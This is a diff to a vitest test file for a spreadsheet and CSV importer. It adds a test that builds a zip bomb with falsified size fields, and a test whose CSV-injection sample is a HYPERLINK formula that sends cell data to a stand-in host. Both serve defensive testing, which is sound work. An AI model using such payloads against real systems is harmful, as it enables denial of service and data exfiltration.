@@ -1,3 +1,4 @@
+import { zipSync } from 'fflate';
 import { describe, expect, test } from 'vitest';
 import writeExcelFile from 'write-excel-file/node';
 import {
@@ -91,6 +92,17 @@ describe('a list of people handed in', () => {
       'unpacks to more',
     );
   });
+
+  test('that unpacks to more than it says is refused too', async () => {
+    const bomb = Buffer.from(
+      zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(120 * 1024 * 1024) }, { level: 9 }),
+    );
+    const stated = Buffer.alloc(4);
+    stated.writeUInt32LE(120 * 1024 * 1024);
+    for (let at = bomb.indexOf(stated); at >= 0; at = bomb.indexOf(stated, at + 1))
+      bomb.writeUInt32LE(100, at);
+    await expect(tableOfFile(bomb)).rejects.toThrow('unpacks to more');
+  });
 });
 
 describe('the file of refused rows', () => {
@@ -110,6 +122,17 @@ describe('the file of refused rows', () => {
       'familyName;functionTitle;Nr;problem\r\nRuiz;"Head; of unit";1;Too long.\r\nSato;"the ""old"" one";3;"Twice; see line 2."\r\n',
     );
     expect(refusedFile(table, new Map())).toBeNull();
+  });
+
+  test('gives a spreadsheet nothing to run, and comes back in as it was', () => {
+    const formula = '=HYPERLINK("https://elsewhere.example?"&A1)';
+    const list = tableOfText(
+      `familyName,givenName,functionTitle\nMoreno,-Ada,"${formula.replaceAll('"', '""')}"\n`,
+    );
+    const file = refusedFile(list, new Map([[2, 'Mend it.']]))!;
+    expect(file.split('\r\n')[1]).toBe(`Moreno,'-Ada,"'${formula.replaceAll('"', '""')}",Mend it.`);
+    const again = tableOfText(file);
+    expect(rowOf(again, again.lines[0]!.cells)).toMatchObject({ givenName: '-Ada', functionTitle: formula });
   });
 
   test('handed in again says this time’s reasons only', () => {
